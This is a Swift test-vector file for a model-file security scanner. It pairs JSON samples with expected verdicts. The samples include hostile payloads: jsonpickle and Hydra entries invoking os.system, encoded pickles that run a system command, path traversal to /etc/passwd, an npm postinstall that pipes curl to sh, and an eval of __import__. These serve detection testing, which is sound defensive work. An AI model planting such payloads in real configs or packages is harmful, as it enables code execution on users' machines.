// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 the Martlet authors

import MartletEvidence

@testable import MartletScan

/// JSON that loads code, names what does harm, or hides it.
extension TextVector {
  static let configurations: [TextVector] = [
    .init("c_auto.json", .unknown, "{\n \"auto_map\": {\n  \"AutoModel\": \"modeling_x.X\"\n }\n}"),
    .init(
      "c_auto2.json", .unknown, "{\n \"auto_map\": {\n  \"AutoModel\": \"evil/repo--modeling_x.X\"\n }\n}"),
    .init(
      "c_autol.json", .unknown,
      "{\n \"auto_map\": {\n  \"AutoTokenizer\": [\n   \"tok.T\",\n   null\n  ]\n }\n}"),
    .init("c_trust.json", .unknown, "{\n \"trust_remote_code\": true\n}"),
    .init(
      "c_cust.json", .unknown,
      "{\n \"custom_pipelines\": {\n  \"p\": {\n   \"impl\": \"pipe.P\",\n   \"pt\": [\n    \"AutoModel\"\n   ]\n  }\n }\n}"
    ),
    .init(
      "c_diff.json", .unknown,
      "{\n \"_class_name\": [\n  \"my_pipe\",\n  \"MyPipe\"\n ],\n \"_diffusers_version\": \"0.30\"\n}"),
    .init(
      "c_diff2.json", .unknown,
      "{\n \"_class_name\": \"StableDiffusionPipeline\",\n \"_diffusers_version\": \"0.30\",\n \"unet\": [\n  \"evil_module\",\n  \"UNet\"\n ]\n}"
    ),
    .init(
      "c_diff3.json", .unsafe,
      "{\n \"_class_name\": \"StableDiffusionPipeline\",\n \"_diffusers_version\": \"0.30\",\n \"unet\": [\n  \"os\",\n  \"system\"\n ]\n}"
    ),
    .init(
      "c_diff4.json", .unknown,
      "{\n \"_class_name\": \"X\",\n \"_diffusers_version\": \"0.3\",\n \"unet\": [\n  \"diffusers_modules.local.x\",\n  \"U\"\n ]\n}"
    ),
    .init(
      "c_pyred.json", .unsafe,
      "{\n \"py/reduce\": [\n  {\n   \"py/type\": \"os.system\"\n  },\n  {\n   \"py/tuple\": [\n    \"id\"\n   ]\n  }\n ]\n}"
    ),
    .init("c_pyobj.json", .unsafe, "{\n \"py/object\": \"subprocess.Popen\"\n}"),
    .init("c_pyobj2.json", .unknown, "{\n \"py/object\": \"foo.Bar\"\n}"),
    .init("c_pyfn.json", .unsafe, "{\n \"py/object/apply\": 1,\n \"py/function\": \"os.system\"\n}"),
    .init(
      "c_tgt.json", .unsafe, "{\n \"a\": {\n  \"_target_\": \"os.system\",\n  \"command\": \"id\"\n }\n}"),
    .init(
      "c_index.json", .unsafe,
      "{\n \"metadata\": {},\n \"weight_map\": {\n  \"a\": \"../../../etc/x.safetensors\"\n }\n}"),
    .init(
      "c_index2.json", .unsafe, "{\n \"metadata\": {},\n \"weight_map\": {\n  \"a\": \"/etc/passwd\"\n }\n}"),
    .init("c_index3.json", .unsafe, "{\n \"weight_map\": {\n  \"a\": \"http://x/y\"\n }\n}"),
    .init("c_kern.json", .unknown, "{\n \"_attn_implementation\": \"evil/kernel\"\n}"),
    .init(
      "c_b64.json", .unsafe, "{\n \"data\": \"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\"\n}"),
    .init(
      "c_b64m.json", .unsafe,
      "{\n \"data\": \"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULoAElR0AAAAAAAAAjAVwb3Np\\neJSMBnN5c3RlbZSTlIwCaWSUhZRSlC6ABJUdAAAAAAAAAIwFcG9zaXiUjAZzeXN0ZW2Uk5SMAmlk\\nlIWUUpQu\\n\"\n}"
    ),
    .init("c_b640.json", .unsafe, "{\n \"data\": \"Y29zCnN5c3RlbQooUydpZCcKdFIu\"\n}"),
    .init(
      "c_hex.json", .unsafe,
      "{\n \"d\": \"8004951d000000000000008c05706f736978948c0673797374656d9493948c02696494859452942e\"\n}"),
    .init(
      "c_z.json", .unsafe, "{\n \"d\": \"eJxrYJkqywABPawF+cWZFVN62Iori0tSc6dMntLDlJkypXVK0BQ9AOXmDZ0=\"\n}"),
    .init(
      "c_peft.json", .unknown,
      "{\n \"peft_type\": \"LORA\",\n \"auto_mapping\": {\n  \"base_model_class\": \"X\",\n  \"parent_library\": \"transformers_modules.evil.modeling\"\n }\n}"
    ),
    .init(
      "c_nb.json", .unknown,
      "{\n \"cells\": [\n  {\n   \"cell_type\": \"code\",\n   \"source\": [\n    \"import os\\n\",\n    \"os.system('id')\"\n   ]\n  }\n ],\n \"nbformat\": 4\n}"
    ),
    .init(
      "c_npm.json", .unknown, "{\n \"name\": \"x\",\n \"scripts\": {\n  \"postinstall\": \"curl x|sh\"\n }\n}"
    ),
    .init("c_dup.json", .unknown, "{\"a\": 1, \"auto_map\": {\"AutoModel\": \"x.Y\"}, \"auto_map\": {}}"),
    .init("c_cut.json", .incomplete, "{\"a\": 1, \"b\": [1, 2"),
    .init(
      "c_st.json", .unknown,
      "[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"sentence_transformers.models.Transformer\"}, {\"idx\": 1, \"name\": \"1\", \"path\": \"1\", \"type\": \"evil.module.Cls\"}]"
    ),
    .init(
      "c_st2.json", .unsafe,
      "[{\"idx\": 0, \"name\": \"0\", \"path\": \"../..\", \"type\": \"sentence_transformers.models.Transformer\"}]"
    ),
    .init("c_st3.json", .unsafe, "[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"os.system\"}]"),
    .init(
      "c_py.json", .unsafe,
      "{\"py/object\": \"__main__.Shell\", \"py/reduce\": [{\"py/function\": \"builtins.eval\"}, [\"__import__('os')\"]]}"
    ),
  ]
}
